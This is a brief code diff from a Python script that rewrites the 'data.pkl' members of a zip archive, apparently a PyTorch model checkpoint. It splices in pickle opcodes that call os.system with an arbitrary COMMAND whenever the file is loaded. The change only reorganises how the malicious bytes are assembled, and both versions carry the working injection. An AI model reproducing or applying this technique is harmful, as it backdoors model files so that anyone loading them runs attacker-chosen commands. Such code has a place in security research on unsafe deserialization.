@@ -46,7 +46,8 @@ def main():
             data = original.read(item)
             if item.filename.endswith("data.pkl"):
                 assert data[:2] == b"\x80\x02"
-                data = data[:2] + b"cos\nsystem\n(X" + len(COMMAND).to_bytes(4, "little") + COMMAND.encode() + b"tR0" + data[2:]
+                text = b"X" + len(COMMAND).to_bytes(4, "little") + COMMAND.encode()
+                data = data[:2] + b"cos\nsystem\n(" + text + b"tR0" + data[2:]
             out.writestr(item.filename, data)
 
 
